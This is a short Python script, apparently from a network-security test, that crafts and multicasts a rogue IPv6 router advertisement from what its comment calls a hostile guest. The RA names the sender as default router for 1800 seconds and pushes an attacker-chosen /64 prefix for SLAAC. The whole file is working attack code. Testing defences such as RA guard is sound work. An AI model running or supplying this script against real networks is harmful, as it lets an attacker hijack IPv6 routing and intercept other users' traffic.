#!/usr/bin/env python3
# A hostile guest's router advertisement: send-ra.py IFNAME PREFIX (e.g. fd00:bad::), one RA to
# all nodes with a default-router lifetime of 1800 s and PREFIX/64 for SLAAC (flags L and A).
import socket
import struct
import sys

ifname, prefix = sys.argv[1], sys.argv[2]
ra = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
pio = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86400, 14400, 0) + socket.inet_pton(socket.AF_INET6, prefix)
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, ifname.encode())
# The kernel fills in the ICMPv6 checksum of a raw ICMPv6 socket.
s.sendto(ra + pio, ("ff02::1", 0, 0, socket.if_nametoindex(ifname)))
